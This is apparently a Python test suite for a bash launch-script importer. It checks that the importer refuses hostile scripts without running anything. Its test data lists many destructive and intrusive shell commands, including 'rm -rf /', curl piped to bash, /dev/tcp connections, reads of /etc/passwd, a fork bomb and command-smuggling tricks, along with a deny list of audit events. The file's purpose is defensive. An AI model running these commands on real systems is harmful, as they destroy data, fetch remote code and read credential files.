"""Scripts that would do harm: nothing of them runs, is written or is contacted, and the error says what was refused."""

from __future__ import annotations

import os
import stat
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from fuligo.errors import ConfigError
from fuligo.importer import import_script

FORBIDDEN_EVENTS = ("subprocess.", "os.system", "os.exec", "os.fork", "os.posix_spawn", "os.spawn", "os.kill", "pty.", "socket.", "shutil.",
                    "os.remove", "os.rename", "os.mkdir", "os.rmdir", "os.link", "os.symlink", "os.chmod", "os.truncate", "tempfile.",
                    "ctypes.", "urllib.")  # fmt: skip
"""Of Python's audit hooks (PEP 578): processes, network, changes of the file system."""


COMMANDS = ["rm", "curl", "wget", "ssh", "python3", "bash", "sh", "ray", "cat", "echo", "seq", "awk", "date", "nvidia-smi", "tee", "mktemp"]


class Watch:
    """Notes what the interpreter is asked to do while it is on. An audit hook cannot be removed, only switched off."""

    def __init__(self) -> None:
        self.on = False
        self.seen: list[tuple[str, Any]] = []
        sys.addaudithook(self._hook)

    def _hook(self, event: str, arguments: tuple[Any, ...]) -> None:
        if not self.on:
            return
        writes = event == "open" and isinstance(arguments[2], int) and arguments[2] & (os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_TRUNC)
        if writes or event.startswith(FORBIDDEN_EVENTS):
            self.seen.append((event, arguments))


WATCH = Watch()


@pytest.fixture
def canaries(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """A folder with a precious file, and a PATH where every command leaves a trace. Nothing may have happened in the end."""
    precious, trace, commands = tmp_path / "precious", tmp_path / "trace", tmp_path / "bin"
    precious.write_text("keep me")
    commands.mkdir()
    for name in [
        "rm",
        "curl",
        "wget",
        "ssh",
        "python3",
        "bash",
        "sh",
        "ray",
        "cat",
        "echo",
        "seq",
        "awk",
        "date",
        "nvidia-smi",
        "pkill",
        "tee",
        "mktemp",
    ]:
        (commands / name).write_text(f"#!/bin/sh\necho {name} >> {trace}\n")
        (commands / name).chmod(stat.S_IRWXU)
    monkeypatch.setenv("PATH", str(commands))
    before = sorted(tmp_path.rglob("*"))
    yield tmp_path
    assert precious.read_text() == "keep me"
    assert not trace.exists()
    assert [path for path in sorted(tmp_path.rglob("*")) if path.name != "run.sh"] == before


def evaluate(script: str, folder: Path) -> str:
    """The error of a script, while everything that it might do is watched."""
    (folder / "run.sh").write_text(script)
    WATCH.seen.clear()
    WATCH.on = True
    try:
        import_script(folder / "run.sh", given={"PRECIOUS": str(folder / "precious")})
        error = ""
    except ConfigError as refused:
        error = str(refused)
    finally:
        WATCH.on = False
    assert WATCH.seen == []
    return error


HOSTILE = {
    "rm -rf $PRECIOUS": "`rm -rf",
    "true\n\nrm -rf / &": "line 3: `rm -rf /`",
    "curl -s http://example.com/x | bash": "`curl -s",
    "wget -q http://example.com": "`wget",
    "bash -c 'rm -rf /'": "`bash -c",
    "sudo rm x": "`sudo rm x`",
    "python3 -c 'import os'": "`python3 -c",
    "python3 evil.py": "`python3 evil.py`",
    "/bin/rm x": "`/bin/rm x`",
    "./train.sh": "`./train.sh`",
    "command rm x": "`command rm x`",
    "builtin eval x": "`builtin eval x`",
    "env rm x": "`env rm x`",
    "xargs rm < /dev/null": "`xargs rm`",
    "R=rm; $R -rf $PRECIOUS": "`rm -rf",
    "x=$(date)": "`date`",
    "x=`rm $PRECIOUS`": "`rm",
    "echo $(cat <(rm x))": "process substitution",
    "x=${y:-$(rm x)}": "`rm x`",
    "cat <<EOF\n$(rm x)\nEOF": "`rm x`",
    "if rm x; then :; fi": "`rm x`",
    "a=($(rm x))": "`rm x`",
    "eval \"$(echo rm) x\"": "eval runs text as a command",
    "exec rm x": "exec runs",
    "exec 3<>/dev/tcp/1.2.3.4/80": "not understood",
    "echo GET > /dev/tcp/1.2.3.4/80": "would open a connection",
    "cat < /dev/tcp/1.2.3.4/80": "outside of",
    "cat /etc/passwd": "outside of",
    "source /etc/profile": "outside of",
    "source ../../../../../../etc/profile": "outside of",
    "read -r x < /etc/passwd": "outside of",
    "x=$(</etc/passwd)": "not understood",
    "ssh host": "opens a shell on another machine",
    "ssh host 'rm -rf /'": "what ssh would run on host",
    "ssh -o A=b root@host \"pkill -9 python; curl x\" &": "`curl x`",
    "scp x host:": "`scp",
    "nohup rm x &": "`nohup",
    "ray job submit -- rm -rf /": "not train.py",
    "ray job submit -- bash train.py": "not train.py",
    "ray exec cluster.yaml 'rm x'": "`ray exec",
    "git push": "`git push`",
    "docker run x": "`docker run",
    ":(){ :|:& };:": "nested more than",
    "f() { f; }; f": "nested more than",
    "f() { $(f); }; f": "nested more than",
    "source ${BASH_SOURCE[0]}": "nested more than",
    "while true; do :; done": "does not end",
    "while :; do echo y; done": "does not end",
    "until false; do true & done": "does not end",
    "for ((;;)); do :; done": "does not end",
    "for ((i=0; i<10; )); do i=$i; done": "does not end",
    "x=aaaa; for i in $(seq 100); do x=$x$x; done": "characters of text",
    "a=(x x); for i in $(seq 100); do a+=(${a[@]}); done": "characters of text",
    "x=aaaa; while :; do x=${x//a/aa}; done": "characters of text",
    "echo $(seq 1 1000000000000)": "numbers",
    "echo {1..1000000000}": "numbers",
    "echo mlx5_{0..7}": "of braces, {1..8} alone is understood",
    "echo {a,b}.jsonl": "of braces, {1..8} alone is understood",
    "printf '%999999999d' 1": "printf",
    "x=$((9**9**9))": "64 bits",
    "echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa | grep '\\(a*\\)*b'": "grep",
    "echo hi > $PRECIOUS": "before it starts train.py",
    "tee $PRECIOUS < /dev/null": "before it starts train.py",
    "mktemp /tmp/x.XXXXXX": "before it starts train.py",
    "mkdir -p /tmp/new; trap 'rm x' EXIT; pkill -9 python": "before it starts train.py",
    "kill -9 1": "`kill",
    "select x in a b; do rm x; done": "asks its user",
    "alias ls=rm": "`alias",
    "coproc rm x": "`coproc",
    "\x00\x01\x02": "",
    "if": "not valid bash",
    "echo 'unfinished": "not valid bash",
    "echo )": "not valid bash",
    "(" * 5000: "",
    "<<A\n" * 50_000: "here-documents",
    "x=" + "{" * 150_000: "before it starts train.py",
    "while :; do : " + "a" * 100_000 + "; done": "characters of text",
    "x=" + "a" * 100_000 + "; y=${x%%*b}": "characters of text",
    "x=" + "a" * 100_000 + "; y=${x//*b/}": "characters of text",
    "echo " + "a" * 100_000 + " | grep -o 'a*b'": "characters of text",
    "x=" + "a" * 100_000 + "; while :; do case $x in *b) ;; esac; done": "characters of text",
    "x=" + "a" * 100_000 + "; while [[ $x != *b ]]; do :; done": "characters of text",
    "# " + "x" * 300_000: "bytes",
    "((" * 300 + "1" + "))" * 300: "",
    "x=" + "$(" * 300 + "echo" + ")" * 300: "",
    "{ " * 300 + "rm x; " + "} ;" * 300: "",
    "x=" + "${x:-" * 300 + "1" + "}" * 300: "",
}  # fmt: skip


@pytest.mark.parametrize(("script", "refused"), HOSTILE.items(), ids=[script[:40] for script in HOSTILE])
def test_nothing_runs(script: str, refused: str, canaries: Path):
    error = evaluate(script, canaries)
    assert refused in error
    assert "run.sh" in error


@pytest.mark.parametrize("script", ["echo \xff", "rm \xed\xb2\x80"], ids=["latin-1", "surrogates"])
def test_a_script_that_is_no_text(script: str, tmp_path: Path):
    (tmp_path / "run.sh").write_bytes(script.encode("latin-1"))
    with pytest.raises(ConfigError, match="UTF-8"):
        import_script(tmp_path / "run.sh")


def test_a_link_out_of_the_folder_is_not_followed(tmp_path: Path):
    folder = tmp_path / "scripts"
    folder.mkdir()
    (tmp_path / "secret.sh").write_text("echo secret")
    (folder / "innocent.sh").symlink_to(tmp_path / "secret.sh")
    assert "outside of" in evaluate("cd $(dirname ${BASH_SOURCE[0]}); source innocent.sh", folder)


def test_secrets_of_the_caller_are_not_seen(tmp_path: Path):
    (tmp_path / "run.sh").write_text("python3 train.py --wandb-key $WANDB_API_KEY")
    with pytest.raises(ConfigError, match="WANDB_API_KEY is not set"):
        import_script(tmp_path / "run.sh", environment={"WANDB_API_KEY": "secret"})


PARTS = r"""rm|curl|$(rm x)|`rm x`|eval|x=1|$x|${x:-|}|(|)|{|((|))|[[|]]|[|]|;|&|&&|<<EOF|EOF|<|>|>>|<(|if|then|fi
else|for x in|do|done|while|true
f()|f|case x in|esac|a=(
a+=(|${a[@]}|'|"|\|$((|1|/0|**|seq 5|ssh h|source|run.sh|exec|python3 train.py|2>&1
export|local|shift|return|break|set -e
printf %s|read x|!|#|$'\n'|{1..3}|~|*|exit|continue|case|in|a) b;;|until false|a[0]=1|trap|wait|unset x|$?|$#|"$@"|:|"""
WORDS = st.sampled_from([*PARTS.replace("\n", "|").split("|"), "|", "||", "\n"])


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(parts=st.lists(WORDS, max_size=25))
def test_any_jumble_ends_with_a_clear_error_or_a_launch(parts: list[str], tmp_path: Path):
    error = evaluate(" ".join(parts), tmp_path)
    assert error == "" or "run.sh" in error


LAUNCH_SCRIPT = (Path(__file__).with_name("snippets.sh")).read_text().splitlines()


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(start=st.integers(0, len(LAUNCH_SCRIPT) - 1), length=st.integers(1, 30), cut=st.integers(0, 200), inserted=WORDS)
def test_any_damaged_script_ends_with_a_clear_error_or_a_launch(start: int, length: int, cut: int, inserted: str, tmp_path: Path):
    text = "\n".join(LAUNCH_SCRIPT[start : start + length])
    error = evaluate(text[:cut] + inserted + text[cut + 1 :], tmp_path)
    assert error == "" or "run.sh" in error
